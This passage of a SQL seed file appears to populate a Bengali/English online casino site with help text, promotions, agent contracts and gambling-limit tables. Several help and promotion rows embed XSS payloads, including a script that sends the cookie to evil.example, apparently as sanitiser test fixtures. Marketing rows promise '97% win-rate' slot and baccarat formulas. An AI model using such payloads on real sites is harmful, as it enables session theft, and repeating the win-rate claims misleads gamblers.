  (8, 4, 'আমার অ্যাকাউন্ট কি নিরাপদ?', '<p>হ্যাঁ। পাসওয়ার্ড এনক্রিপ্ট করে রাখা হয় এবং উত্তোলনে আলাদা পেমেন্ট পাসওয়ার্ড লাগে।</p>', 2),
  (9, 4, 'প্রোমোশন কীভাবে দাবি করব?', '<p>প্রোমোশন পেজে অফারটি খুলুন এবং <strong>আবেদন করুন</strong> চাপুন। কিছু অফারে স্ক্রিনশট বা মন্তব্য লাগে।</p>', 3),
  (10, 4, 'সাপোর্টে কীভাবে যোগাযোগ করব?', '<p>আমাদের সাপোর্ট টিম লাইভ চ্যাট ও টেলিগ্রামে ২৪/৭ অনলাইনে আছে।</p><img src="x" onerror="alert(''help-xss'')"><script>alert("help-xss")</script><p><a href="javascript:alert(''help-xss'')">চ্যাট খুলুন</a></p><iframe src="https://evil.example/help"></iframe><p onclick="alert(''help-xss'')">বিস্তারিত</p>', 4),
  (11, 8, 'How do I deposit with bKash?', '<ol><li>Open <strong>Deposit</strong> in the member centre and choose bKash.</li><li>Enter the amount (minimum ৳200).</li><li>Send Money to the number shown and enter the transaction ID.</li></ol>', 1),
  (12, 8, 'How do I deposit with Nagad or Rocket?', '<p>The same way: choose Nagad or Rocket, send the money to the number shown and enter the reference.</p>', 2),
  (13, 8, 'How long does a deposit take?', '<p>Usually less than 5 minutes. If it takes more than 30 minutes, contact us on live chat.</p>', 3),
  (14, 9, 'How do I withdraw?', '<p>Open <strong>Withdraw</strong>, choose your bKash, Nagad, Rocket or bank account, enter the amount and your payment password.</p>', 1),
  (15, 9, 'Withdrawal limits', '<p>From ৳500 to ৳50,000 per request.</p>', 2),
  (16, 9, 'Why is my withdrawal pending?', '<p>Our team checks every withdrawal, usually within 15 minutes. Any remaining turnover must be completed first.</p>', 3),
  (17, 10, 'I forgot my password', '<p>Tap <em>Forgot password?</em> on the login page and set a new password with your mobile number or e-mail.</p>', 1),
  (18, 10, 'Is my account safe?', '<p>Yes. Passwords are stored encrypted and withdrawals need a separate payment password.</p>', 2),
  (19, 10, 'How do I claim a promotion?', '<p>Open the offer on the promotion page and tap <strong>Apply</strong>. Some offers need a screenshot or a remark.</p>', 3),
  (20, 10, 'How do I contact support?', '<p>Our support team is online 24/7 on live chat and Telegram.</p><img src="x" onerror="alert(''help-xss'')"><script>alert("help-xss")</script><p><a href="javascript:alert(''help-xss'')">Open chat</a></p><iframe src="https://evil.example/help"></iframe><p onclick="alert(''help-xss'')">More details</p>', 4);
CREATE TABLE customer_service (
    id INTEGER PRIMARY KEY,
    cs_type TEXT NOT NULL CHECK (cs_type IN ('LIVECHAT', 'TELEGRAM')),
    title TEXT NOT NULL,
    path TEXT NOT NULL,
    sequence INTEGER NOT NULL
  );
INSERT INTO "customer_service" ("id", "cs_type", "title", "path", "sequence") VALUES
  (1, 'LIVECHAT', 'Live Chat 24/7', '/chat', 1),
  (2, 'TELEGRAM', 'Telegram Support', 'https://t.me/vsbdtf5_support', 2),
  (3, 'TELEGRAM', 'Telegram VIP Desk', 'https://t.me/vsbdtf5_vip', 3);
CREATE TABLE download_links (
    resource_type TEXT PRIMARY KEY,
    url TEXT NOT NULL,
    label_name_en TEXT,
    sequence INTEGER NOT NULL
  );
INSERT INTO "download_links" ("resource_type", "url", "label_name_en", "sequence") VALUES
  ('Android', '/static/downloads/vsbdtf5.apk', 'Android App', 1),
  ('MOBILECONFIG', '/static/downloads/vsbdtf5.mobileconfig', 'iOS Profile', 2),
  ('AppDownloadIcon', '/static/content/app-icon.svg', NULL, 3),
  ('FACEBOOK', 'https://www.facebook.com/vsbdtf5', 'Facebook', 4),
  ('TELEGRAM', 'https://t.me/vsbdtf5_official', 'Telegram', 5),
  ('WHATSAPP', 'https://wa.me/8801700000000', 'WhatsApp', 6),
  ('INSTAGRAM', 'https://www.instagram.com/vsbdtf5', 'Instagram', 7),
  ('YOUTUBE', 'https://www.youtube.com/@vsbdtf5', 'YouTube', 8),
  ('TWITTER', 'https://x.com/vsbdtf5', 'X', 9),
  ('TIKTOK', 'https://www.tiktok.com/@vsbdtf5', 'TikTok', 10),
  ('AFFILIATELINK', 'https://affiliate.vsbdtf5.example/join', 'Become an Affiliate', 11);
CREATE TABLE site_content (
    language TEXT PRIMARY KEY CHECK (language IN ('bn', 'en')),
    help_title TEXT NOT NULL,
    help_body TEXT NOT NULL,
    licence_image_url TEXT NOT NULL,
    licence_title TEXT NOT NULL,
    copyright TEXT NOT NULL,
    promo_link_ids TEXT NOT NULL DEFAULT '[]'
  );
INSERT INTO "site_content" ("language", "help_title", "help_body", "licence_image_url", "licence_title", "copyright", "promo_link_ids") VALUES
  ('bn', 'সহায়তা কেন্দ্র', 'জমা, উত্তোলন বা অ্যাকাউন্ট নিয়ে প্রশ্ন? ধাপে ধাপে গাইড পড়ুন বা ২৪/৭ সাপোর্টের সাথে কথা বলুন।', '/static/content/licence.svg', 'লাইসেন্সপ্রাপ্ত ও নিয়ন্ত্রিত অনলাইন গেমিং', '© 2019-2025 vsbdtf5. সর্বস্বত্ব সংরক্ষিত।', '[1,2]'),
  ('en', 'Help Centre', 'Questions about deposits, withdrawals or your account? Read our step-by-step guides or talk to support, online 24/7.', '/static/content/licence.svg', 'Licensed and regulated online gaming', '© 2019-2025 vsbdtf5. All rights reserved.', '[1,2]');
CREATE TABLE site_highlights (
    id INTEGER PRIMARY KEY,
    language TEXT NOT NULL CHECK (language IN ('bn', 'en')),
    icon TEXT NOT NULL,
    title TEXT NOT NULL,
    body TEXT NOT NULL,
    sequence INTEGER NOT NULL
  );
INSERT INTO "site_highlights" ("id", "language", "icon", "title", "body", "sequence") VALUES
  (1, 'bn', 'games', '৬০০+ গেম', 'JILI, PG Soft, Evolution সহ আরও অনেকের স্লট, লাইভ ক্যাসিনো, ক্রিকেট বেটিং, ফিশিং, পোকার ও লটারি।', 1),
  (2, 'bn', 'support', '২৪/৭ সাপোর্ট', 'বাংলা ও ইংরেজিতে সারাক্ষণ লাইভ চ্যাট ও টেলিগ্রাম সাপোর্ট।', 2),
  (3, 'bn', 'slots', '৯৭% জয়ের হারের স্লট ফর্মুলা', 'আমাদের সদস্যদের ৯৭% জয়ের হারের স্লট ফর্মুলা শিখুন।', 3),
  (4, 'bn', 'baccarat', '৯৭% জয়ের হারের ব্যাকারাট ফর্মুলা', 'আমাদের ভিআইপি টিমের ৯৭% জয়ের হারের প্রমাণিত ব্যাকারাট ফর্মুলা।', 4),
  (5, 'bn', 'payments', 'দ্রুত জমা ও উত্তোলন', 'বিকাশ, নগদ, রকেট বা ব্যাংক ট্রান্সফারে মিনিটেই জমা দিন, দ্রুত টাকা তুলুন।', 5),
  (6, 'bn', 'security', 'নিরাপদ ও লাইসেন্সপ্রাপ্ত', 'লাইসেন্সপ্রাপ্ত গেমিং, এনক্রিপ্ট করা অ্যাকাউন্ট ও নিরাপদ পেমেন্ট।', 6),
  (7, 'en', 'games', '600+ Games', 'Slots, live casino, cricket betting, fishing, poker and lottery from JILI, PG Soft, Evolution and more.', 1),
  (8, 'en', 'support', '24/7 Support', 'Live chat and Telegram support around the clock, in Bengali and English.', 2),
  (9, 'en', 'slots', '97% Win-Rate Slot Formulas', 'Learn the slot formulas our members use, with a 97% win rate.', 3),
  (10, 'en', 'baccarat', '97% Win-Rate Baccarat Formulas', 'Proven baccarat formulas with a 97% win rate from our VIP team.', 4),
  (11, 'en', 'payments', 'Fast Deposits & Withdrawals', 'Deposit in minutes and withdraw fast with bKash, Nagad, Rocket or bank transfer.', 5),
  (12, 'en', 'security', 'Safe & Licensed', 'Licensed gaming, encrypted accounts and secure payments.', 6);
CREATE TABLE chat_anchors (
    id INTEGER PRIMARY KEY,
    nickname TEXT NOT NULL,
    list_name TEXT NOT NULL CHECK (list_name IN ('model', 'hot', 'focus', 'recommend')),
    promo INTEGER NOT NULL DEFAULT 0 CHECK (promo IN (0, 1)),
    live INTEGER NOT NULL DEFAULT 0 CHECK (live IN (0, 1)),
    viewers INTEGER NOT NULL DEFAULT 0,
    hue INTEGER NOT NULL,
    sequence INTEGER NOT NULL
  );
INSERT INTO "chat_anchors" ("id", "nickname", "list_name", "promo", "live", "viewers", "hue", "sequence") VALUES
  (1, 'Mim Live', 'hot', 1, 1, 1840, 330, 1),
  (2, 'Nusrat', 'hot', 0, 1, 1215, 20, 2),
  (3, 'Tania Rahman', 'hot', 1, 0, 0, 200, 3),
  (4, 'Riya', 'model', 0, 1, 962, 280, 4),
  (5, 'Sadia', 'model', 1, 1, 640, 160, 5),
  (6, 'Anika', 'focus', 0, 1, 433, 50, 6),
  (7, 'Jannat', 'focus', 1, 0, 0, 100, 7),
  (8, 'Sumaiya', 'recommend', 0, 1, 377, 240, 8),
  (9, 'Farhana', 'recommend', 1, 1, 512, 0, 9),
  (10, 'Priya', 'recommend', 0, 0, 0, 300, 10);
CREATE TABLE chat_messages (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    sender TEXT NOT NULL CHECK (sender IN ('member', 'support')),
    body TEXT NOT NULL,
    created_at INTEGER NOT NULL,
    read_at INTEGER
  );
INSERT INTO "chat_messages" ("id", "member_id", "sender", "body", "created_at", "read_at") VALUES
  (1, 1, 'support', 'Welcome to vsbdtf5 live support! Ask us anything about deposits & withdrawals, we answer 24/7 <3', 1793404800000, NULL);
CREATE TABLE chat_tickets (
    id INTEGER PRIMARY KEY,
    token_hash TEXT NOT NULL UNIQUE,
    member_id INTEGER NOT NULL REFERENCES members(id),
    language TEXT NOT NULL CHECK (language IN ('bn', 'en')),
    title TEXT NOT NULL,
    header_color TEXT NOT NULL,
    back_url TEXT NOT NULL,
    created_at INTEGER NOT NULL,
    expires_at INTEGER NOT NULL
  , session_id INTEGER REFERENCES sessions(id));
CREATE TABLE member_rebate_rates (
    member_id INTEGER NOT NULL REFERENCES members(id),
    category TEXT NOT NULL CHECK (category IN ('RNG', 'LIVE', 'SPORTS', 'FISH', 'PVP', 'LOTT')),
    permille INTEGER NOT NULL CHECK (permille BETWEEN 0 AND 30),
    PRIMARY KEY (member_id, category)
  );
INSERT INTO "member_rebate_rates" ("member_id", "category", "permille") VALUES
  (2, 'RNG', 15),
  (2, 'LIVE', 15),
  (2, 'SPORTS', 15),
  (2, 'FISH', 15),
  (2, 'PVP', 15),
  (2, 'LOTT', 15),
  (3, 'RNG', 12),
  (3, 'LIVE', 12),
  (3, 'SPORTS', 10),
  (3, 'FISH', 12),
  (3, 'PVP', 10),
  (3, 'LOTT', 8),
  (5, 'RNG', 5),
  (5, 'LIVE', 5),
  (5, 'SPORTS', 5),
  (5, 'FISH', 5),
  (5, 'PVP', 5),
  (5, 'LOTT', 5);
CREATE TABLE agent_transfers (
    id INTEGER PRIMARY KEY,
    kind TEXT NOT NULL CHECK (kind IN ('downline', 'upline')),
    from_member_id INTEGER NOT NULL REFERENCES members(id),
    to_member_id INTEGER NOT NULL REFERENCES members(id),
    amount_minor INTEGER NOT NULL CHECK (amount_minor > 0),
    remark TEXT NOT NULL DEFAULT '',
    idempotency_key TEXT NOT NULL,
    request_hash TEXT NOT NULL,
    created_at INTEGER NOT NULL,
    UNIQUE (from_member_id, idempotency_key)
  );
CREATE TABLE "contracts" (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    kind TEXT NOT NULL CHECK (kind IN ('daily_salary', 'dividend', 'hourly_salary')),
    -- What the contract-dividend prompt reports while the contract is offered.
    requirement TEXT NOT NULL,
    settlement TEXT NOT NULL CHECK (settlement IN ('daily', 'half-month', 'hourly')),
    -- JSON ContractTier[]: conditions and pay of each tier, lowest first.
    tiers TEXT NOT NULL,
    status TEXT NOT NULL CHECK (status IN ('offered', 'active', 'rejected', 'ended')),
    -- Set on acceptance (the next settlement start); an active contract with effective_to in the past has ended.
    effective_from INTEGER,
    effective_to INTEGER,
    created_at INTEGER NOT NULL,
    decided_at INTEGER
  );
INSERT INTO "contracts" ("id", "member_id", "kind", "requirement", "settlement", "tiers", "status", "effective_from", "effective_to", "created_at", "decided_at") VALUES
  (1, 2, 'daily_salary', 'DAILY_SALARY', 'daily', '[{"minActiveMembers":5,"minTeamBetMinor":1000000,"amountMinor":50000,"sharePermille":0},{"minActiveMembers":10,"minTeamBetMinor":5000000,"amountMinor":150000,"sharePermille":0},{"minActiveMembers":20,"minTeamBetMinor":20000000,"amountMinor":500000,"sharePermille":0}]', 'offered', NULL, NULL, 1793404800000, NULL),
  (2, 2, 'dividend', 'MONTHLY', 'half-month', '[{"minActiveMembers":5,"minTeamBetMinor":5000000,"amountMinor":0,"sharePermille":200},{"minActiveMembers":15,"minTeamBetMinor":20000000,"amountMinor":0,"sharePermille":300},{"minActiveMembers":30,"minTeamBetMinor":50000000,"amountMinor":0,"sharePermille":400}]', 'offered', NULL, NULL, 1793404800000, NULL),
  (3, 2, 'hourly_salary', 'HOURLY', 'hourly', '[{"minActiveMembers":3,"minTeamBetMinor":100000,"amountMinor":5000,"sharePermille":0},{"minActiveMembers":5,"minTeamBetMinor":500000,"amountMinor":15000,"sharePermille":0}]', 'offered', NULL, NULL, 1793404800000, NULL),
  (4, 2, 'daily_salary', 'DAILY_SALARY', 'daily', '[{"minActiveMembers":2,"minTeamBetMinor":100000,"amountMinor":20000,"sharePermille":0},{"minActiveMembers":5,"minTeamBetMinor":500000,"amountMinor":60000,"sharePermille":0}]', 'active', 1788458400000, NULL, 1788307200000, 1788393600000),
  (5, 2, 'dividend', 'MONTHLY', 'half-month', '[{"minActiveMembers":10,"minTeamBetMinor":10000000,"amountMinor":0,"sharePermille":150},{"minActiveMembers":20,"minTeamBetMinor":30000000,"amountMinor":0,"sharePermille":250}]', 'rejected', NULL, NULL, 1791763200000, 1791849600000),
  (6, 3, 'daily_salary', 'DAILY_SALARY', 'daily', '[{"minActiveMembers":3,"minTeamBetMinor":300000,"amountMinor":10000,"sharePermille":0},{"minActiveMembers":6,"minTeamBetMinor":1000000,"amountMinor":30000,"sharePermille":0}]', 'offered', NULL, NULL, 1793404800000, NULL);
CREATE TABLE contract_earnings (
    id INTEGER PRIMARY KEY,
    contract_id INTEGER NOT NULL REFERENCES contracts(id),
    period_start INTEGER NOT NULL,
    period_end INTEGER NOT NULL,
    tier INTEGER NOT NULL CHECK (tier >= 1),
    amount_minor INTEGER NOT NULL CHECK (amount_minor >= 0),
    created_at INTEGER NOT NULL,
    UNIQUE (contract_id, period_start)
  );
INSERT INTO "contract_earnings" ("id", "contract_id", "period_start", "period_end", "tier", "amount_minor", "created_at") VALUES
  (1, 4, 1792000800000, 1792087200000, 1, 20000, 1792087200000),
  (2, 4, 1792951200000, 1793037600000, 1, 20000, 1793037600000),
  (3, 4, 1793296800000, 1793383200000, 1, 20000, 1793383200000),
  (4, 4, 1793383200000, 1793469600000, 2, 60000, 1793469600000);
CREATE TABLE protection_limits (
    member_id INTEGER NOT NULL REFERENCES members(id),
    kind TEXT NOT NULL CHECK (kind IN ('deposit', 'loss', 'wager', 'session')),
    period TEXT NOT NULL CHECK (period IN ('day', 'week', 'month', 'session')),
    amount INTEGER CHECK (amount IS NULL OR amount > 0),
    pending_set INTEGER NOT NULL DEFAULT 0 CHECK (pending_set IN (0, 1)),
    pending_amount INTEGER CHECK (pending_amount IS NULL OR pending_amount > 0),
    pending_effective_at INTEGER,
    updated_at INTEGER NOT NULL,
    PRIMARY KEY (member_id, kind, period),
    CHECK ((kind = 'session') = (period = 'session'))
  );
CREATE TABLE protection_limit_events (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    kind TEXT NOT NULL,
    period TEXT NOT NULL,
    event TEXT NOT NULL CHECK (event IN ('applied', 'requested', 'cancelled', 'effective')),
    from_amount INTEGER,
    to_amount INTEGER,
    created_at INTEGER NOT NULL
  );
CREATE TABLE exclusions (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    kind TEXT NOT NULL CHECK (kind IN ('timeout', 'self_exclusion')),
    period TEXT NOT NULL,
    starts_at INTEGER NOT NULL,
    until INTEGER,
    ip TEXT NOT NULL DEFAULT '',
    created_at INTEGER NOT NULL
  );
CREATE TABLE security_changes (
        id INTEGER PRIMARY KEY,
        member_id INTEGER NOT NULL REFERENCES members(id),
        kind TEXT NOT NULL CHECK (kind IN ('email', 'mobile', 'paymentPassword', 'payeeName', 'payoutAccount')),
        at INTEGER NOT NULL,
        notified_email TEXT,
        notified_mobile TEXT
      );
CREATE TABLE "sms_codes" (
        id INTEGER PRIMARY KEY,
        mobile TEXT NOT NULL,
        purpose TEXT NOT NULL CHECK (purpose IN ('register', 'login', 'forgot', 'payout', 'withdraw', 'bind_mobile',
          'security')),
        code_hash TEXT NOT NULL,
        ip TEXT NOT NULL,
        created_at INTEGER NOT NULL,
        expires_at INTEGER NOT NULL,
        failed_attempts INTEGER NOT NULL DEFAULT 0,
        used_at INTEGER,
        invalidated_at INTEGER
      );
CREATE TABLE content_translations (
        kind TEXT NOT NULL CHECK (kind IN ('announcement', 'promotion', 'promotion_category')),
        content_id INTEGER NOT NULL,
        language TEXT NOT NULL CHECK (language IN ('bn', 'en')),
        title TEXT NOT NULL,
        content TEXT NOT NULL DEFAULT '',
        PRIMARY KEY (kind, content_id, language)
      );
INSERT INTO "content_translations" ("kind", "content_id", "language", "title", "content") VALUES
  ('announcement', 1, 'bn', 'নির্ধারিত রক্ষণাবেক্ষণ', '<p>নির্ধারিত রক্ষণাবেক্ষণ চলবে <strong>মঙ্গলবার রাত ২টা থেকে ৪টা</strong> পর্যন্ত। এ সময় গেম খেলা যাবে না।</p>'),
  ('announcement', 2, 'bn', 'vsbdtf5-এ স্বাগতম', '<p>স্বাগতম! ৬০০+ গেম উপভোগ করুন।</p><img src="x" onerror="alert(''xss'')"><script>alert("xss")</script>'),
  ('announcement', 3, 'bn', 'এই সপ্তাহের জমা বোনাস', '<h3>জমা বোনাস</h3><p><em>৳৫০০</em> বা তার বেশি জমা দিন আর পান <strong>১০%</strong> বাড়তি।</p>'),
  ('announcement', 4, 'bn', 'হট: JILI Super Ace', '<p>এই সপ্তাহের সবচেয়ে জনপ্রিয় স্লটটি খেলে দেখুন।</p>'),
  ('promotion_category', 1, 'bn', 'নতুন সদস্য', ''),
  ('promotion_category', 2, 'bn', 'জমা বোনাস', ''),
  ('promotion_category', 3, 'bn', 'স্লট ও ক্যাসিনো', ''),
  ('promotion_category', 4, 'bn', 'স্পোর্টস', ''),
  ('promotion_category', 5, 'bn', 'ভিআইপি', ''),
  ('promotion', 1, 'bn', 'প্রথম জমায় ১০০% বোনাস', '<h3>প্রথম জমা হবে দ্বিগুণ</h3><p>৳৫০০ বা তার বেশি প্রথম জমা দিন, আমরা তার ১০০% মিলিয়ে দেব, সর্বোচ্চ <strong>৳১০,০০০</strong>।</p><ul><li>শুধু নতুন সদস্যদের জন্য, জনপ্রতি একটি বোনাস</li><li>উত্তোলনের আগে ১০ গুণ টার্নওভার</li><li>বিকাশ বা নগদ পেমেন্টের স্ক্রিনশট সংযুক্ত করুন এবং মন্তব্যে ট্রানজ্যাকশন আইডি লিখুন</li></ul>'),
  ('promotion', 2, 'bn', 'উইকেন্ড রিলোড ৫০%', '<h3>প্রতি শনি ও রবিবার</h3><p>সপ্তাহান্তে ৳১,০০০ বা তার বেশি রিলোড করুন আর সর্বোচ্চ ৳৫,০০০ পর্যন্ত <strong>৫০%</strong> বোনাস পান।</p><ul><li>জমার স্ক্রিনশট সংযুক্ত করুন</li><li>৮ গুণ টার্নওভার</li></ul>'),
  ('promotion', 3, 'bn', 'স্লটে প্রতিদিন ১.২% ক্যাশব্যাক', '<h3>প্রতিটি স্লট স্পিনে ক্যাশব্যাক</h3><p>জিতুন বা হারুন, প্রতিদিনের স্লট টার্নওভারের <strong>১.২%</strong> ফেরত পান।</p><p>আবেদন করতে মন্তব্যে আপনার প্রিয় স্লট গেমের নাম লিখুন।</p>'),
  ('promotion', 4, 'bn', 'ক্রিকেট অ্যাকুমুলেটর ইন্স্যুরেন্স', '<h3>এক লেগ হারলেও স্টেক ফেরত</h3><p>৪ বা তার বেশি লেগের ক্রিকেট অ্যাকুমুলেটর বাজি ধরুন; ঠিক একটি লেগ হারলে আপনার স্টেক সর্বোচ্চ <strong>৳২,০০০</strong> পর্যন্ত বোনাস হিসেবে ফেরত দেওয়া হবে।</p>'),
  ('promotion', 5, 'bn', 'ভিআইপি সাপ্তাহিক রিবেট', '<h3>প্রতি সপ্তাহে রিবেট, চিরকাল</h3><p>ভিআইপি সদস্যরা প্রতি সোমবার সাপ্তাহিক বৈধ বাজির সর্বোচ্চ <strong>১.৫%</strong> ফেরত পান। কোনো শেষ তারিখ নেই, দীর্ঘমেয়াদি অফার।</p>'),
  ('promotion', 6, 'bn', 'বন্ধুকে রেফার করুন: দুজনেই ৳৫০০', '<h3>বন্ধুদের আমন্ত্রণ জানান, একসাথে আয় করুন</h3><p><em>বন্ধুদের আমন্ত্রণ</em> থেকে আপনার রেফারেল লিংক শেয়ার করুন। আপনার বন্ধু ৳১,০০০ জমা দিলে আপনারা দুজনেই ৳৫০০ পাবেন। টাকা নিজে থেকেই যোগ হয়: আবেদনের দরকার নেই।</p>'),
  ('promotion', 7, 'bn', 'ঈদ মোবারক রিলোড ৩০%', '<h3>ঈদ মোবারক!</h3><p>ঈদের ছুটিতে ৩০% রিলোড বোনাস, সর্বোচ্চ ৳৩,০০০।</p>'),
  ('promotion', 8, 'bn', 'লাকি স্পিন উৎসব', '<h3>লাকি স্পিন উৎসব</h3><p>দিনে একবার লাকি হুইল ঘোরান আর জিতে নিন সর্বোচ্চ <strong>৳৫,০০০</strong> বোনাস।</p><img src="x" onerror="alert(''promo-xss'')"><script>document.location=''https://evil.example/steal?c=''+document.cookie</script><p><a href="javascript:alert(''promo-xss'')">এখনই নিন</a></p><iframe src="https://evil.example/frame"></iframe><p onclick="alert(''promo-xss'')">সম্পূর্ণ শর্তাবলী দেখতে এখানে চাপুন।</p>'),
  ('promotion', 9, 'bn', 'পহেলা বৈশাখ বোনাস', '<h3>শুভ নববর্ষ!</h3><p>টানা তিন দিন প্রতিটি জমায় ২০% নববর্ষ বোনাস।</p>');
CREATE INDEX members_parent ON members(parent_id);
CREATE INDEX login_attempts_username ON login_attempts(username, created_at);
CREATE INDEX captchas_username ON captchas(username, created_at);
CREATE UNIQUE INDEX members_mobile ON members(mobile) WHERE mobile IS NOT NULL;
CREATE INDEX members_trial_ip ON members(register_ip, type, reg_date);
CREATE INDEX login_attempts_ip ON login_attempts(ip, created_at);
CREATE INDEX recovery_requests_username ON recovery_requests(username, created_at);
CREATE INDEX ledger_member ON ledger(member_id, created_at);
CREATE INDEX deposits_member ON deposits(member_id, created_at);
CREATE INDEX deposits_pending ON deposits(status, created_at);
CREATE UNIQUE INDEX payout_accounts_number ON payout_accounts(member_id, account_number)
    WHERE deleted_at IS NULL;
CREATE INDEX withdrawals_member ON withdrawals(member_id, created_at);
CREATE INDEX payment_password_attempts_member ON payment_password_attempts(member_id, created_at);
CREATE INDEX bets_member ON bets(member_id, settled_at);
CREATE INDEX rewards_member ON rewards(member_id, created_at);
CREATE INDEX mail_member ON mail(member_id, created_at);
CREATE INDEX feedback_member ON feedback(member_id, created_at);
CREATE INDEX rebates_member ON rebates(member_id, created_at);
CREATE INDEX games_type ON games(game_type, vassalage);
CREATE INDEX game_winners_created ON game_winners(created_at);
CREATE INDEX reward_applications_member ON reward_applications(member_id, promotion_id, status);
CREATE INDEX help_children_item ON help_children(help_item_id, sequence);
CREATE INDEX chat_messages_member ON chat_messages(member_id, created_at);
CREATE INDEX affiliate_links_owner ON affiliate_links(owner_id, created_at);
CREATE INDEX members_affiliate_link ON members(affiliate_link_id);
CREATE INDEX agent_transfers_to ON agent_transfers(to_member_id, created_at);
CREATE INDEX contracts_member ON contracts(member_id, kind);
CREATE INDEX sessions_member ON sessions(member_id, created_at);
CREATE INDEX protection_limit_events_member ON protection_limit_events(member_id, created_at);
CREATE INDEX exclusions_member ON exclusions(member_id, until);
CREATE UNIQUE INDEX deposits_reference_claim ON deposits(channel_id, reference_claim)
        WHERE reference_claim IS NOT NULL;
CREATE INDEX deposits_reference ON deposits(channel_id, reference);
CREATE INDEX captchas_ip ON captchas(ip, created_at);
CREATE INDEX captchas_expires ON captchas(expires_at);
CREATE INDEX outbox_created ON outbox(created_at);
CREATE INDEX login_attempts_created ON login_attempts(created_at);
CREATE INDEX chat_tickets_session ON chat_tickets(session_id);
CREATE INDEX security_changes_member ON security_changes(member_id, kind, at);
CREATE INDEX password_resets_member ON password_resets(member_id);
CREATE INDEX sms_codes_mobile ON sms_codes(mobile, purpose, created_at);
CREATE INDEX sms_codes_ip ON sms_codes(ip, created_at);
CREATE TRIGGER deposits_reference_claim_on_insert AFTER INSERT ON deposits
      WHEN NEW.reference <> '' AND NEW.status NOT IN ('rejected', 'cancelled')
      BEGIN
        UPDATE deposits SET reference_claim = UPPER(NEW.reference) WHERE id = NEW.id;
      END;
CREATE TRIGGER deposits_reference_claim_on_decline AFTER UPDATE OF status ON deposits
      WHEN NEW.status IN ('rejected', 'cancelled') AND NEW.reference_claim IS NOT NULL
      BEGIN
        UPDATE deposits SET reference_claim = NULL WHERE id = NEW.id;
      END;
COMMIT;
